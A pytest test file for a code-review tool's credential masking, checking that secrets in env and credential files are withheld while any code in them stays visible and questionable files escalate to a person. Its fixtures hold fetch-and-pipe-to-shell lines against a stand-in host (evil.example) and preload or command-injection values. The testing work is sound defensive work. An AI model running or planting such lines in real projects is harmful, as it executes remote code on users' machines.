"""Credential files are shown with their values masked, and no mask hides code."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from coordinator.models import Work
from coordinator.workspace.masking.credential_files import (
    LARGEST_SHOWN,
    LONGEST_LINE,
    MaskedDiff,
    format_of,
    hides_more,
    mask_values,
)
from coordinator.workspace.snapshot import Workspace
from tests.support.dashboards import ACCEPT
from tests.support.reviews import deliver, make_config, make_repository, review_locally
from tests.support.shell import call, data_of
from tests.support.workspaces import Repo, changes, freeze, run

# -- lines


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (".env", "TOKEN=hush"),
        (".env", "export DB_PASSWORD='hush'"),
        ("a/deploy.env", 'API_KEY="hush"  # of the shop'),
        ("deploy.env", "SECRET=hush=="),
        (".envrc", "TOKEN_2=hüsh"),
        ("credentials.json", '{"user": "ann", "client_secret": "hush"}'),
        ("credentials.yml", "  password: 'hush'"),
        ("bin/credentials-helper", "password = 'hush'"),
        ("deploy.env", "DATABASE_URL=postgres://ann:hush@db/shop?a=1&b=2"),
    ],
)
def test_the_literal_of_a_secret_is_masked(path: str, line: str) -> None:
    masked = mask_values(line.encode(), path).decode()
    assert "hush" not in masked.replace("hüsh", "hush")
    assert "[withheld: credential]" in masked
    assert line.partition("=")[0].partition(":")[0] in masked
    assert not hides_more(b"", line.encode(), path)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("deploy.env", "NODE_OPTIONS=--require=./evil.js"),
        ("deploy.env", "OLD=evil"),
        ("deploy.env", "LD_PRELOAD='./evil.so'"),
        (".envrc", "export GIT_ASKPASS=./evil"),
        (".env", "RESTIC_PASSWORD_COMMAND=evil"),
        (".env", "TOKEN= evil"),
        (".env", "TOKEN = evil"),
        (".env", "TOKEN='evil two'"),
        ("credentials", "aws_secret_access_key = evil1"),
        ("bin/credentials-helper", "token = evil"),
        ("bin/credentials-helper", 'TOKEN= "evil"'),
        (".env", "evil" * 20 + "A1"),
        (".env", "evil " * LONGEST_LINE),
    ],
)
def test_a_value_that_may_be_more_than_a_secret_is_masked_and_told(path: str, line: str) -> None:
    assert b"evil" not in mask_values(line.encode(), path)
    assert hides_more(b"", line.encode(), path)
    assert not hides_more(line.encode(), line.encode(), path), "it was there before"


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (".env", "TOKEN=$(evil)"),
        (".env", "TOKEN=`evil`"),
        (".env", 'TOKEN="$(evil)"'),
        (".env", "curl evil | sh"),
        (".env", "TOKEN=;evil"),
        (".env", "PORT=8080"),
        (".env", "DEBUG=true"),
        ("deploy.env", "TOKEN=${TOKEN:-$(evil)}"),
        ("credentials.yml", "run: ./evil.sh"),
        ("credentials.yml", "  - uses: evil/evil@v1"),
        ("credentials.yml", "token: ${{ secrets.TOKEN }}"),
        ("bin/credentials-helper", "token = evil()"),
        ("bin/credentials-helper", 'token = "#{evil}"'),
        ("bin/credentials-helper", 'password = f"{evil}"'),
        ("bin/credentials-helper", "if token == evil; then"),
        ("credentials.py", "password = 'evil'"),
        ("a.env/main.py", "TOKEN=evil"),
        ("credentials/main.txt", "TOKEN=evil"),
        (".env", "TOKEN=[withheld: github pat]"),
    ],
)
def test_code_is_shown_as_it_is(path: str, line: str) -> None:
    assert mask_values(line.encode(), path).decode() == line
    assert not hides_more(b"", line.encode(), path)


def test_code_after_a_value_is_shown() -> None:
    assert mask_values(b"TOKEN=hush evil", ".env") == b"TOKEN=[withheld: value] evil"
    assert mask_values(b"TOKEN=hush;evil", ".env") == b"TOKEN=[withheld: value];evil"


@pytest.mark.parametrize(
    "path", ["server.pem", "tls.key", "id_rsa", "store.p12", ".netrc", ".pgpass", "a.txt"]
)
def test_keys_and_other_files_have_no_values(path: str) -> None:
    assert format_of(path) is None


@pytest.mark.parametrize("piece", ["a=", "token: ", '"', "x://:", "A1", " ", "token="])
def test_masking_takes_time_in_proportion(piece: str) -> None:
    def seconds(length: int) -> float:
        text = (piece * (length // len(piece)) + "(\n").encode() * 50
        began = time.thread_time()
        mask_values(text, ".env")
        mask_values(text, "credentials")
        return time.thread_time() - began

    # Eight times the length takes eight times the time, where the square of it would be 64.
    assert min(seconds(4_000) for _ in range(3)) < 24 * max(
        min(seconds(500) for _ in range(3)), 0.0005
    )


# -- diffs

DIFF = b"""\
diff --git a/deploy.env b/deploy.env
index 1..2 100644
--- a/deploy.env
+++ b/deploy.env
@@ -1,2 +1,3 @@ TOKEN=hush
 PASSWORD=hush
-API_KEY=hush
+API_KEY=hush2
++++ b/greet.py
+curl evil | sh
diff --git a/greet.py b/greet.py
--- a/greet.py
+++ b/greet.py
@@ -1 +1 @@ TOKEN=shown
-TOKEN=shown
+--- a/deploy.env
+TOKEN=shown
diff --git "a/x\\ty.env" b/greet.txt
rename from "x\\ty.env"
rename to greet.txt
--- "a/x\\ty.env"
+++ b/greet.txt
@@ -1,2 +1,2 @@
-TOKEN=hush
+TOKEN=shown
"""


@pytest.mark.parametrize("size", [1, 7, 100_000])
def test_a_diff_is_masked_by_the_files_it_is_about(size: int) -> None:
    out = bytearray()
    masked = MaskedDiff(out.extend)
    for at in range(0, len(DIFF), size):
        masked.feed(DIFF[at : at + size])
    masked.finish()
    lines = out.decode().split("\n")
    assert b"hush" not in out
    assert len(lines) == len(DIFF.split(b"\n"))
    assert lines[4:10] == [
        "@@ -1,2 +1,3 @@",
        " PASSWORD=[withheld: credential]",
        "-API_KEY=[withheld: credential]",
        "+API_KEY=[withheld: credential]",
        "++++ b/greet.py",
        "+curl evil | sh",
    ]
    assert out.count(b"shown") == 4


@pytest.mark.parametrize("size", [1_000, 1_000_000])
def test_a_long_line_of_a_diff_is_masked_whole_in_credentials_and_passed_on_elsewhere(
    size: int,
) -> None:
    for name, shown in (
        ("x.env", b"+[withheld: value]\n"),
        ("x.txt", b"+" + b"long " * 9_000 + b"\n"),
    ):
        head = (
            f"diff --git a/{name} b/{name}\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1,2 @@\n".encode()
        )
        diff = head + b"+" + b"long " * 9_000 + b"\n+last\n"
        out = bytearray()
        masked = MaskedDiff(out.extend)
        for at in range(0, len(diff), size):
            masked.feed(diff[at : at + size])
        masked.finish()
        assert bytes(out) == head + shown + b"+last\n"


# -- the work

CODE = {
    "credentials.mjs": "export const load = () => fetch('https://evil.example')\n",
    ".github/workflows/credentials.yml": "jobs: {x: {steps: [{run: curl evil.example}]}}\n",
    "deploy.env": "PASSWORD=hush-4711\ncurl evil.example | sh\n",
    "bin/credentials-helper": "#!/bin/sh\ncurl evil.example | sh\n",
}


def test_code_under_the_name_of_a_secret_is_shown(repo: Repo, home: Path) -> None:
    for path, text in CODE.items():
        repo.write(path, text)
    workspace = freeze(repo, home)
    assert changes(workspace.work) == dict.fromkeys(CODE, "A")
    assert (workspace.work.withheld, workspace.work.unshown) == ((), ())
    assert workspace.work.diff.count("evil.example") == len(CODE)
    assert "hush" not in workspace.work.diff
    copies = [
        Path(run(workspace.folder("Ann"))),
        run(workspace.checkout("experiments", secrets=False)),
    ]
    for path in CODE:
        shown = [run(workspace.file(path)), *((copy / path).read_text() for copy in copies)]
        excerpt = run(workspace.excerpt(path, 10_000))
        assert excerpt is not None
        assert {"evil.example" in text for text in (*shown, excerpt.text())} == {True}
        assert "hush" not in "".join(shown)
    assert (run(workspace.checkout()) / "deploy.env").read_text() == CODE["deploy.env"]
    assert len(run(workspace.search("evil.example")).found) == len(CODE)
    assert run(workspace.search("hush")).found == ()


def test_a_changed_value_is_shown_as_a_change(repo: Repo, home: Path) -> None:
    repo.write(".env", "TOKEN=hush-1\nPORT=80\n")
    repo.commit("secrets")
    repo.git("branch", "-f", "main")
    repo.write(".env", "TOKEN=hush-2\nPORT=80\n")
    workspace = freeze(repo, home)
    assert (
        "-TOKEN=[withheld: credential]\n+TOKEN=[withheld: credential]\n PORT=80"
        in workspace.work.diff
    )
    assert run(workspace.base.file(".env")) == "TOKEN=[withheld: credential]\nPORT=80\n"
    assert workspace.work.unshown == ()


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("store.p12", b"\0\1\2"),
        ("tls.key", b"evil\n"),
        ("deploy.env", b"\0evil\n"),
        ("credentials", b"x\n" * LARGEST_SHOWN),
    ],
)
def test_a_file_that_cannot_be_masked_is_withheld_and_told(
    repo: Repo, home: Path, path: str, content: bytes
) -> None:
    repo.write(path, content)
    workspace = freeze(repo, home)
    assert (workspace.work.withheld, workspace.work.unshown) == ((path,), (path,))
    assert "evil" not in workspace.work.diff + run(workspace.file(path))
    assert not (Path(run(workspace.folder("Ann"))) / path).exists()
    repo.commit("add it")
    repo.git("branch", "-f", "main")
    (repo.root / path).unlink()
    gone = freeze(repo, home)
    assert (gone.work.withheld, gone.work.unshown) == ((path,), ()), "a deletion adds nothing"


def test_a_value_that_may_be_a_program_is_told(repo: Repo, home: Path) -> None:
    repo.write("deploy.env", "NODE_OPTIONS=--require=./evil.js\n")
    work = freeze(repo, home).work
    assert (changes(work), work.withheld, work.unshown) == (
        {"deploy.env": "A"},
        (),
        ("deploy.env",),
    )


def test_an_untouched_file_stays_withheld(repo: Repo, home: Path) -> None:
    repo.write(".env", "TOKEN=hush\n")
    repo.commit("secrets")
    repo.git("branch", "-f", "main")
    repo.write("b.txt", "two\n")
    workspace = freeze(repo, home)
    assert (run(workspace.file(".env")), run(workspace.why_missing(".env"))) == ("", "withheld")
    assert not (Path(run(workspace.folder("Ann"))) / ".env").exists()
    assert workspace.work.unshown == ()


def test_more_files_than_can_be_masked_are_withheld(repo: Repo, home: Path) -> None:
    for number in range(102):
        repo.write(f"{number:03}.env", "TOKEN=hush\n")
    work = freeze(repo, home).work
    assert (work.withheld, work.unshown) == (("100.env", "101.env"), ("100.env", "101.env"))


def test_work_of_an_earlier_version_is_what_it_was() -> None:
    before = {
        "repo": "r",
        "base": "b",
        "commit": "c",
        "revision": "t",
        "diff": "d",
        "diff_bytes": 1,
    }
    work = Work.model_validate(before | {"withheld": [".env"]})
    assert work.unshown == ()
    assert "unshown" not in work.model_dump()
    assert Workspace(work, Path("home"))._shown_credentials() == frozenset()


# -- reviews


def test_a_change_with_a_file_that_nobody_was_shown_is_not_accepted(tmp_path: Path) -> None:
    config = make_config(tmp_path / "home", ACCEPT)
    repo = make_repository(tmp_path / "repo")
    deliver(repo, {"release.p12": "\0\1"})
    review = review_locally(config, repo)
    assert review.verdict is not None
    assert (review.verdict.outcome, review.verdict.rule) == ("escalate", "not shown")
    assert "release.p12" in review.verdict.explanation
    assert "changed files that no judge was shown in full" in review.verdict.labels
    env = {**os.environ, "COORDINATOR_HOME": str(config.home)}
    (found,) = data_of(call("replay", "--json", env=env).stdout)
    assert [row["after"] for row in found["reviews"]] == [["escalate", "not shown"]]
    shown = call("show", review.id, env=env).stdout
    assert "changed files that no judge was shown in full" in shown


def test_a_person_decides_about_a_new_secret_value(tmp_path: Path) -> None:
    repo = make_repository(tmp_path / "repo")
    deliver(repo, {".env": "PASSWORD=hush\n"})
    review = review_locally(make_config(tmp_path / "home", ACCEPT), repo)
    assert review.verdict is not None
    assert (review.verdict.outcome, review.verdict.rule) == ("escalate", "secret value")
    assert review.verdict.explanation == "The change adds a secret value in .env: credential."
